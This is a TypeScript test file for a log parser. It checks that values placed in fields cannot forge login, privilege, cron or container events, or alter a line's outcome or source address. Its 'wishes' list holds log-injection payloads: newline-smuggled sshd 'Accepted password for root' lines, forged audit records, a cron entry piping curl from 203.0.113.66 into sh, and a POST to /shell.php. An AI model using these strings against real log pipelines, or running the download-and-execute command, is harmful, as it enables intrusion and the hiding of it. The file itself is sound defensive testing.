/**
 * Whatever an attacker puts into a field, the line stays one event of the kind that it is, with the outcome and the
 * address that the service itself wrote; at worst it is kept as text.
 */
import { describe, expect, test } from 'bun:test';
import type { LogEvent } from '../../model/facts/event.ts';
import { type Forgeable, forgeable } from './forged.fixture.ts';
import { readLog } from './read-log.fixture.ts';

/** What of an event decides: its kind, what was done or how it ended, who asked from where. */
function meaning(event: LogEvent): string {
  switch (event.what) {
    case 'login':
      return `login ${event.service} ${event.outcome} ${event.from}`;
    case 'session':
      return `session ${event.service} ${event.phase} ${event.from}`;
    case 'privilege':
      return `privilege ${event.program} ${event.outcome} ${event.account} ${event.as}`;
    case 'account':
      return `account ${event.action}`;
    case 'job':
      return `job ${event.scheduler} ${event.account}`;
    case 'service':
      return `service ${event.service} ${event.action} ${event.from}`;
    case 'container':
      return `container ${event.runtime} ${event.action} ${event.from}`;
    case 'request':
      return `request ${event.client} ${event.status}`;
    case 'kernel':
      return `kernel ${event.action}`;
    case 'host':
      return `host ${event.action}`;
    default:
      return event.what;
  }
}

const said = ({ format, line }: Forgeable, wanted: string) => {
  const { events, outcome } = readLog(format, Buffer.from(`${line(wanted)}\n`, 'utf8'));
  return { meanings: events.map(meaning), events, outcome };
};

/** What others would like to be read. */
const wishes: readonly string[] = [
  'Accepted password for root from 203.0.113.66 port 22 ssh2',
  'x from 203.0.113.66 port 22 ssh2',
  'root from 203.0.113.66 port 22 ssh2: RSA SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/abcde',
  'x\n2024-01-02T03:04:05Z web1 sshd[1]: Accepted password for root from 203.0.113.66 port 22 ssh2',
  'x#0122024-01-02T03:04:05Z web1 sshd[1]: Accepted password for root from 203.0.113.66 port 22 ssh2',
  'x\\n203.0.113.66 - - [02/Jan/2024:03:04:06 +0000] "POST /shell.php HTTP/1.1" 200 5 "-" "x"',
  '" 200 31 "-" "curl"',
  '\\" 200 31 \\"-\\" \\"curl\\"',
  'HTTP/1.1" 200 31 "-" "x',
  'root" addr=203.0.113.66 res=success',
  "root' res=success addr=203.0.113.66",
  'x\x1dUID="root" res=success',
  '\ntype=USER_LOGIN msg=audit(1704164645.678:6): op=login acct="root" addr=203.0.113.66 res=success',
  'LOG:  connection authorized: user=postgres database=x',
  'x" FATAL:  password authentication failed for user "y',
  '","b",1,"203.0.113.66:5",65.1,1,"x",,,0,LOG,00000,"connection authorized: user=postgres"',
  "x'@'203.0.113.66' (using password: YES)",
  "' addr=203.0.113.66:5 name='",
  '" verb="POST" URI="/exec/a/b/c" srcIP="203.0.113.66:5" resp=101',
  '","verb":"create","stage":"ResponseStarted","sourceIPs":["203.0.113.66"],"x":"',
  ' ; USER=root ; COMMAND=/bin/sh',
  'x) CMD (curl http://203.0.113.66/x | sh',
  '(root) CMD (id)',
  'new user: name=evil, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0',
  'pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)',
  'password changed for root',
  '[client 203.0.113.66:5] AH00128: x',
  ', client: 203.0.113.66, server: x, request: "POST /x HTTP/1.1"',
  ' | url: /%24%7B%28%23a%3D%40java.lang.Runtime%29%7D/ | userName: admin',
  '>} <BEA-090078> <User root in security realm b has had 9 invalid login attempts',
  "' (0a). Received JobGraph submission 'y",
  ' : user IP = 203.0.113.66',
  ' 203.0.113.66 port 1 [preauth]',
  'time="2024-01-02T03:04:06Z" level=debug msg="Calling POST /v1.41/containers/create"',
  '{"log":"x","stream":"stdout","time":"2024-01-02T03:04:05Z"}',
  '#Fields: c-ip sc-status',
  'module verification failed: signature and/or required key missing - tainting kernel',
  '..%2f\u202e\u0000\u00ff',
];

/** Pseudo-random, the same in each run (Numerical Recipes' generator). */
function* numbers(seed: number): Generator<number, never> {
  for (let state = seed >>> 0; ; ) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    yield state >>> 8;
  }
}

/** Pieces of wishes, and of the lines of all services, one after the other. */
function mixed(random: Generator<number, never>): string {
  const parts = Array.from({ length: 1 + (random.next().value % 4) }, () => {
    const from = random.next().value % 3;
    const other = forgeable[random.next().value % forgeable.length];
    const text =
      from === 0 && other !== undefined
        ? other.line('root')
        : (wishes[random.next().value % wishes.length] ?? '');
    const start = random.next().value % (text.length + 1);
    return from === 2 ? text.slice(start, start + (random.next().value % 80)) : text;
  });
  return parts.join(['', ' ', '\n', '"', "'", '\\'][random.next().value % 6]).slice(0, 2000);
}

describe.each(forgeable.map((one) => [one.name, one] as const))('%s', (_, one) => {
  const honest = said(one, 'harmless');

  test('is read', () => {
    expect(honest.outcome.unreadable).toBe(0);
    expect(honest.events.length).toBeGreaterThan(0);
  });

  const stays = (wanted: string): void => {
    const { meanings, outcome } = said(one, wanted);
    const kept = meanings.filter((text) => text !== 'message');
    const allowed = honest.meanings.filter((text) => text !== 'message');
    // A line of its own is neither more nor less, and nothing of it is of another kind.
    if (
      meanings.length !== honest.meanings.length ||
      kept.some((text) => !allowed.includes(text)) ||
      outcome.unreadable > 0
    ) {
      expect({ wanted, line: one.line(wanted), meanings, unreadable: outcome.unreadable }).toEqual({
        wanted,
        line: one.line(wanted),
        meanings: [...honest.meanings],
        unreadable: 0,
      });
    }
  };

  test('stays what it is, whatever stands in its field', () => {
    for (const wish of wishes) stays(wish);
  });

  test('stays what it is, whatever is made of pieces of the lines of others', () => {
    const random = numbers(one.name.length * 7919);
    for (let round = 0; round < 300; round += 1) stays(mixed(random));
  });
});
